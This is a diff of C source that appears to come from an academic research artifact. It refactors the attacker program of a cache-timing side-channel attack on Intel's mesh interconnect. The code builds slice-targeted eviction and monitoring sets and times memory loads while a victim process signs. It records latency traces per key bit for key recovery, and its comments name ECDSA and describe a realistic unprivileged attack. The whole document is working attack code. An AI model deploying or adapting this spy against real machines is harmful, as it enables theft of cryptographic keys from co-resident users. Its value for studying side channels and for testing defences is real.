@@ -1,41 +1,51 @@
 #include "../util/util.h"
 #include "scutil/dont-mesh-around.h"
 #include "../util/machine_const.h"
+#include "../util/mesh_topology.h"
+#include "../util/eviction_set_builder.h"
+#include "../util/ev_validate.h"
+#include "../util/timer_config.h"
+#include "../util/cache_flush.h"
+#include "../util/trace_file.h"
+#include "../util/hugepage.h"
+#include "../util/probe_kernel.h"
 
 #include <string.h>
-#include <x86intrin.h>
+#include <unistd.h>
 
 #define BUF_SIZE 400 * 1024UL * 1024 /* Buffer Size -> 400*1MB */
 #define MAXSAMPLES 100000
 
-static inline void access_ev(struct Node *ev)
-{
-	// Access EV multiple times (linear access pattern)
-	for (int j = 0; j < 4; j++) {
-		struct Node *curr_node = ev;
-		while (curr_node && curr_node->next && curr_node->next->next) {
-			maccess(curr_node->address);
-			maccess(curr_node->next->address);
-			maccess(curr_node->next->next->address);
-			maccess(curr_node->address);
-			maccess(curr_node->next->address);
-			maccess(curr_node->next->next->address);
-			curr_node = curr_node->next;
-		}
-	}
-}
-
 int main(int argc, char **argv)
 {
 	int i, j;
 
+	// Parse options
+	const char *kernel_name = "1-load";
+	const char *program = argv[0];
+	int bad_option = 0;
+	int opt;
+	while ((opt = getopt(argc, argv, "k:")) != -1) {
+		if (opt == 'k') {
+			kernel_name = optarg;
+		} else {
+			bad_option = 1;
+		}
+	}
+	argc -= optind - 1;
+	argv += optind - 1;
+
 	// Check arguments
-	if (argc != 5) {
+	if (bad_option || argc != 5) {
 		fprintf(stderr, "Wrong Input! Enter desired core ID, slice ID, repetitions, and iteration of interest!\n");
-		fprintf(stderr, "Enter: %s <core_ID> <slice_ID> <repetitions> <iteration_of_interest>\n", argv[0]);
+		fprintf(stderr, "Enter: %s [-k kernel] <core_ID> <slice_ID> <repetitions> <iteration_of_interest>\n", program);
+		fprintf(stderr, "The probe kernel times each sample (see util/probe_kernel.h), 1-load by default\n");
 		exit(1);
 	}
 
+	// Select the probe kernel
+	const struct probe_kernel *kernel = probe_kernel_select(kernel_name, TIMER_BACKEND);
+
 	// Parse core ID
 	int core_ID;
 	sscanf(argv[1], "%d", &core_ID);
@@ -79,116 +89,61 @@ int main(int argc, char **argv)
 	// This time we do not set the priority like in the RE because
 	// doing so would use root and we want our actual attack
 	// to be realistic for a user space process
-	int cpu = cha_id_to_cpu[core_ID];
+	int cpu = cha_cpu(core_ID);
 	pin_cpu(cpu);
+	timer_init();
 
 	//////////////////////////////////////////////////////////////////////
 	// Set up memory
 	//////////////////////////////////////////////////////////////////////
 
 	// Allocate large buffer (pool of addresses)
-	void *buffer = mmap(NULL, BUF_SIZE, PROT_READ | PROT_WRITE, MAP_ANON | MAP_PRIVATE | MAP_HUGETLB, -1, 0);
-	if (buffer == MAP_FAILED) {
-		perror("mmap");
-		exit(1);
-	}
-
-	// Write data to the buffer so that any copy-on-write
-	// mechanisms will give us our own copies of the pages.
-	memset(buffer, 0, BUF_SIZE);
+	void *buffer = hugepage_alloc(BUF_SIZE, HUGEPAGE_SHIFT);
 
 	// Init variables for MS and EV
-	uint64_t index1, index2, offset;
-	struct Node *monitoring_set = NULL;
-	struct Node *curr_node = NULL;
+	struct slice_index *index = slice_index_create(buffer, BUF_SIZE);
+	struct flat_ev *monitoring_set = NULL;
 	int monitoring_set_size = 16;
 	int total_sets = 32; // FIXME: may need more for ECDSA
-	struct Node *ev = NULL;
-	int ev_set = set_ID;
+	struct flat_ev *ev = NULL;
 	int ev_size = 16;
 	int ev_slice = core_ID;
 
-	// Prepare monitoring set
-	for (int k = 0; k < total_sets; k++, set_ID += 2) {
-		// Find first address in our desired slice and given set
-		offset = find_next_address_on_slice_and_set(buffer, slice_ID, set_ID);
-
-		// Save this address in the monitoring set
-		append_string_to_linked_list(&monitoring_set, (void *)((uint64_t)buffer + offset));
-
-		if (k == 0) {
-			curr_node = monitoring_set;
-		} else {
-			curr_node = curr_node->next;
-		}
-
-		// Get the L1 and L2 cache set indexes of the monitoring set
-		index2 = get_cache_set_index((uint64_t)curr_node->address, 2);
-		index1 = get_cache_set_index((uint64_t)curr_node->address, 1);
-
-		// Find next addresses which are residing in the desired slice and the same sets in L2/L1
-		// These addresses will distribute across 2 LLC sets
-		for (i = 1; i < monitoring_set_size; i++) {
-			// offset = 2 * 1024 * 1024; // skip to an next address in the next page
-			offset = L2_INDEX_STRIDE; // skip to the next address with the same L2 cache set index
-			while (index1 != get_cache_set_index((uint64_t)curr_node->address + offset, 1) ||
-				   index2 != get_cache_set_index((uint64_t)curr_node->address + offset, 2) ||
-				   slice_ID != get_cache_slice_index((void *)((uint64_t)curr_node->address + offset))) {
-				offset += L2_INDEX_STRIDE;
-			}
-
-			append_string_to_linked_list(&monitoring_set, (void *)((uint64_t)curr_node->address + offset));
-			curr_node = curr_node->next;
-		}
-	}
-
-	// Flush monitoring set
-	curr_node = monitoring_set;
-	while (curr_node != NULL) {
-		_mm_clflush(curr_node->address);
-		curr_node = curr_node->next;
-	}
-
-	// Prepare EV (local slice)
-	for (int k = 0; k < total_sets; k++, ev_set += 2) {
-
-		// Find first address in our desired slice and given set
-		offset = find_next_address_on_slice_and_set(buffer, ev_slice, ev_set);
-
-		// Save this address in the ev set
-		append_string_to_linked_list(&ev, (void *)((uint64_t)buffer + offset));
-
-		if (k == 0) {
-			curr_node = ev;
-		} else {
-			curr_node = curr_node->next;
-		}
-
-		// Get the L1, L2 and L3 cache set indexes of the EV set
-		index2 = get_cache_set_index((uint64_t)curr_node->address, 2);
-		index1 = get_cache_set_index((uint64_t)curr_node->address, 1);
-
-		// Find next addresses which are residing in the desired slice and the same sets in L2/L1
-		// These addresses will distribute across 2 LLC sets
-		for (i = 1; i < ev_size; i++) {
-			offset = L2_INDEX_STRIDE; // skip to the next address with the same L2 cache set index
-			while (index1 != get_cache_set_index((uint64_t)curr_node->address + offset, 1) ||
-				   index2 != get_cache_set_index((uint64_t)curr_node->address + offset, 2) ||
-				   ev_slice != get_cache_slice_index((void *)((uint64_t)curr_node->address + offset))) {
-				offset += L2_INDEX_STRIDE;
-			}
-
-			append_string_to_linked_list(&ev, (void *)((uint64_t)curr_node->address + offset));
-			curr_node = curr_node->next;
-		}
-	}
-
-	// Flush ev set
-	curr_node = ev;
-	while (curr_node != NULL) {
-		_mm_clflush(curr_node->address);
-		curr_node = curr_node->next;
+	// Prepare monitoring set and EV (local slice)
+	// For each set, find addresses which are residing in the desired slice and given set,
+	// and in the same sets in L2/L1 as the first one
+	// These addresses will distribute across 2 LLC sets
+	uint32_t sets[total_sets];
+	for (int k = 0; k < total_sets; k++) {
+		sets[k] = set_ID + 2 * k;
 	}
+	struct ev_spec specs[2] = {
+		{slice_ID, sets, total_sets, monitoring_set_size, EV_LAYOUT_SEQUENTIAL},
+		{ev_slice, sets, total_sets, ev_size, EV_LAYOUT_SEQUENTIAL},
+	};
+	monitoring_set = build_flat_ev(index, &specs[0], 1);
+	ev = build_flat_ev(index, &specs[1], 1);
+	slice_index_destroy(index);
+
+	// Keep only the part of the EV (and the traversal) needed to evict the
+	// monitoring set from the private caches
+	struct ev_report ev_report;
+	struct flat_ev *full_ev = ev;
+	ev = ev_optimize(full_ev, monitoring_set, EV_MIN_EVICTION_RATE, &ev_report);
+	ev_print_report(stdout, "EV", &ev_report);
+#ifdef TIMER_PMU
+	perf_timer_print_calibration(stdout);
+#endif
+	timer_config_check(TIMER_BACKEND, kernel->loads);
+	flat_ev_free(full_ev);
+
+	// Start the probes at the first line
+	struct probe_cursor cursor;
+	probe_cursor_init(&cursor, kernel, monitoring_set);
+
+	// Flush monitoring set and ev set
+	flat_ev_flush(monitoring_set);
+	flat_ev_flush(ev);
 
 	//////////////////////////////////////////////////////////////////////
 	// Done setting up memory
@@ -196,19 +151,26 @@ int main(int argc, char **argv)
 
 	// Prepare samples array
 	uint32_t *samples = (uint32_t *)malloc(sizeof(*samples) * MAXSAMPLES);
+
+	// Describe the traces
+	char placement[64];
+	snprintf(placement, sizeof(placement), "core=%d slice=%d set=%d", core_ID, slice_ID, set_ID);
+	struct trace_info trace;
+	trace_info_init(&trace, TIMER_BACKEND, kernel->loads);
+#ifdef TIMER_PMU
+	trace.latency_ghz = perf_timer_get_calibration()->cycle_ghz;
+#endif
+	trace.kernel = kernel->name;
+	trace.placement = placement;
 	fprintf(stderr, "READY\n");
 
 	// Warm up
 	for (i = 0; i < 2000000; i++) {
-		curr_node = monitoring_set;
-		while (curr_node != NULL) {
-			maccess(curr_node->address);
-			curr_node = curr_node->next;
-		}
+		flat_ev_load(monitoring_set);
 
 		// Evict from the private caches
-		_mm_lfence();
-		access_ev(ev);
+		arch_fence();
+		ev_traverse(ev, ev_report.traversal);
 	}
 
 	//////////////////////////////////////////////////////////////////////
@@ -232,15 +194,11 @@ int main(int argc, char **argv)
 		uint32_t waiting_for_victim = 0;
 
 		// Read addresses from monitoring set into cache
-		curr_node = monitoring_set;
-		while (curr_node != NULL) {
-			maccess(curr_node->address);
-			curr_node = curr_node->next;
-		}
+		flat_ev_load(monitoring_set);
 
 		// Evict from the private caches
-		_mm_lfence();
-		access_ev(ev);
+		arch_fence();
+		ev_traverse(ev, ev_report.traversal);
 
 		// Double-check that the victim has not started yet
 		if (sharestruct->iteration_of_interest_running) {
@@ -251,7 +209,6 @@ int main(int argc, char **argv)
 		sharestruct->sign_requested = victim_iteration_no;
 
 		// Start monitoring loop
-		curr_node = monitoring_set;
 		for (i = 0; i < MAXSAMPLES; i++) {
 
 			// Check if the victim's iteration of interest ended
@@ -264,6 +221,7 @@ int main(int argc, char **argv)
 			// Check if the victim's iteration of interest started
 			if (!active) {
 				i = 0;
+				probe_cursor_rewind(&cursor);
 				if (sharestruct->iteration_of_interest_running) {
 					active = 1;
 				} else {
@@ -277,27 +235,14 @@ int main(int argc, char **argv)
 				}
 			}
 
-			if ((i != 0) && ((i % (total_sets * monitoring_set_size)) == 0)) {
+			if ((i != 0) && (((i * kernel->loads) % (total_sets * monitoring_set_size)) == 0)) {
 				// Skip when we had to access the EV
 				waiting_for_victim = UINT32_MAX;
 				break;
 			}
 
-			asm volatile(
-				".align 32\n\t"
-				"lfence\n\t"
-				"rdtsc\n\t"				/* eax = TSC (timestamp counter) */
-				"movl %%eax, %%r8d\n\t" /* r8d = eax */
-				"movq (%1), %%r9\n\t"	/* r9 = *(current->address); LOAD */
-				"rdtscp\n\t"			/* eax = TSC (timestamp counter) */
-				"sub %%r8d, %%eax\n\t"	/* eax = eax - r8d; get timing difference between the second timestamp and the first one */
-				"movl %%eax, %0\n\t"	/* samples[j++] = eax */
-
-				: "=rm"(samples[i]) /* output */
-				: "r"(curr_node->address)
-				: "rax", "rcx", "rdx", "r8", "r9", "memory");
-
-			curr_node = curr_node->next;
+			uint64_t timestamp;
+			samples[i] = probe_kernel_run(kernel, &cursor, &timestamp);
 		}
 
 		// Check that the victim's iteration of interest is actually ended
@@ -313,33 +258,22 @@ int main(int argc, char **argv)
 		// Prepare data output file
 		char output_data_fn[64];
 		sprintf(output_data_fn, "./out/%04d_data_%04d_%" PRIu8 ".out", rept_index, victim_iteration_no, actual_bit);
-		FILE *output_data;
-		if (!(output_data = fopen(output_data_fn, "w"))) {
-			perror("fopen");
-			exit(1);
-		}
 
 		// Store the samples to disk
-		int trace_length = i;
-		for (i = 0; i < trace_length; i++) {
-			fprintf(output_data, "%" PRIu32 "\n", samples[i]);
-		}
+		struct trace_column_data column = {"latency", samples, sizeof(*samples), (uint64_t)i};
+		trace_write(output_data_fn, &trace, &column, 1);
 
 		// Wait some time before next trace
 		wait_cycles(150000000);
-
-		// Close the files for this trace
-		fclose(output_data);
 	}
 
 	// Free the buffers and file
-	munmap(buffer, BUF_SIZE);
+	hugepage_free(buffer, BUF_SIZE, HUGEPAGE_SHIFT);
 	free(samples);
 
-	// Clean up lists
-	struct Node *tmp = NULL;
-	for (curr_node = monitoring_set; curr_node != NULL; tmp = curr_node, curr_node = curr_node->next, free(tmp));
-	for (curr_node = ev; curr_node != NULL; tmp = curr_node, curr_node = curr_node->next, free(tmp));
+	// Clean up sets
+	flat_ev_free(monitoring_set);
+	flat_ev_free(ev);
 
 	return 0;
 }